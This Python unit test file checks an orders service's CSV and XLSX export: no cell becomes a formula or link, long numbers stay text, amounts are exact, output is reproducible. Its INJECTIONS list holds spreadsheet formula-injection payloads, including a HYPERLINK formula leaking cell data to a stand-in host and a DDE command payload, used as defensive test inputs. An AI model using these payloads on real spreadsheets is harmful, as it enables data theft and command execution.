"""Tables as CSV and XLSX: no cell is a formula, amounts are exact, the same rows make the same bytes."""

import time
import zipfile
from operator import itemgetter
from pathlib import Path

import openpyxl
import pytest

from services.orders.adapters.table_files import CsvTable, XlsxTable
from services.orders.domain.tables import Column, Row, Table
from tests.unit.orders.export_reader import read_csv, read_xlsx

TABLE = Table[Row](
    "things",
    "东西",
    (
        Column("name", "名称", itemgetter(0)),
        Column("amount", "金额", itemgetter(1), money=True),
        Column("count", "数量", itemgetter(2)),
    ),
)
LONG_NUMBERS = [
    "4200000000202611290000000001",
    "26442000000000000001",
    "20261129101500000000012345678901",
    "2026112910150000123e456789012345",
    "1E5",
    "01234567",
    "202611291015",
]
"""Of WeChat Pay, invoices and our own: a spreadsheet shows 4.2E+27."""
INJECTIONS = [
    '=HYPERLINK("https://evil.example/?"&A1,"点这里")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    "\0=1+1",
    "https://evil.example/",
    "mailto:evil@example.com",
    "internal:Sheet1!A1",
    "{=1+1}",
]


def written(kind: type[CsvTable] | type[XlsxTable], path: Path, rows: list[Row]) -> bytes:
    file = kind(path, TABLE)
    for row in rows:
        file.write(row)
    file.close()
    return path.read_bytes()


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_text_becomes_a_formula_or_a_link(tmp_path: Path, text: str) -> None:
    written(XlsxTable, tmp_path / "x.xlsx", [(text, 1, 1)])
    cell = openpyxl.load_workbook(tmp_path / "x.xlsx").worksheets[0]["A2"]
    assert cell.data_type != "f"
    sheet = zipfile.ZipFile(tmp_path / "x.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    shown = read_csv(written(CsvTable, tmp_path / "x.csv", [(text, 1, 1)]))[1][0]
    assert not shown.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert shown[:1] not in ("\t", "\r", "\n", "\0")


@pytest.mark.parametrize("text", LONG_NUMBERS)
def test_a_long_number_stays_a_text_for_spreadsheets(tmp_path: Path, text: str) -> None:
    csv_text = written(CsvTable, tmp_path / "x.csv", [(text, 1, 1)]).decode("utf-8-sig")
    assert csv_text.splitlines()[1] == f"'{text},0.01,1"
    written(XlsxTable, tmp_path / "x.xlsx", [(text, 1, 1)])
    cell = openpyxl.load_workbook(tmp_path / "x.xlsx").worksheets[0]["A2"]
    assert (cell.value, cell.data_type) == (text, "s")


@pytest.mark.parametrize("text", ["2026-03-02 12:00:00", "12345678901", "0", "3e", "20260302-1", "课程 course"])
def test_what_no_spreadsheet_changes_is_written_as_it_is(tmp_path: Path, text: str) -> None:
    csv_text = written(CsvTable, tmp_path / "x.csv", [(text, 1, 1)]).decode("utf-8-sig")
    assert csv_text.splitlines()[1] == f"{text},0.01,1"


@pytest.mark.parametrize(
    ("fen", "yuan"), [(0, "0.00"), (1, "0.01"), (29, "0.29"), (9900, "99.00"), (-5, "-0.05"), (10**15 + 7, "")]
)
def test_amounts_are_exact(tmp_path: Path, fen: int, yuan: str) -> None:
    rows: list[Row] = [("名称", fen, 3)]
    expected = yuan or "10000000000000.07"
    assert read_csv(written(CsvTable, tmp_path / "x.csv", rows))[1] == ["名称", expected, "3"]
    assert read_xlsx(written(XlsxTable, tmp_path / "x.xlsx", rows))[1] == ["名称", float(expected), 3]


def test_the_same_rows_make_the_same_bytes_whenever_they_are_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows: list[Row] = [(f"第{number}行 & <b>", number, None) for number in range(50)]
    first = [written(kind, tmp_path / "a", rows) for kind in (CsvTable, XlsxTable)]
    now = time.time()
    monkeypatch.setattr(time, "time", lambda: now + 10**8)
    monkeypatch.setenv("TZ", "Asia/Shanghai")
    time.tzset()
    try:
        assert [written(kind, tmp_path / "b", rows) for kind in (CsvTable, XlsxTable)] == first
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()


def test_what_a_cell_cannot_hold_is_an_error_and_not_left_out(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="row 1"):
        written(XlsxTable, tmp_path / "x.xlsx", [("长" * 32_768, 1, 1)])
    with pytest.raises(ValueError, match="argument"):
        written(XlsxTable, tmp_path / "y.xlsx", [("too few", 1)])


def test_headings_name_columns_in_both_languages(tmp_path: Path) -> None:
    headings = ["名称 name", "金额(元) amount", "数量 count"]
    assert read_csv(written(CsvTable, tmp_path / "x.csv", [])) == [headings]
    assert read_xlsx(written(XlsxTable, tmp_path / "x.xlsx", [])) == [headings]
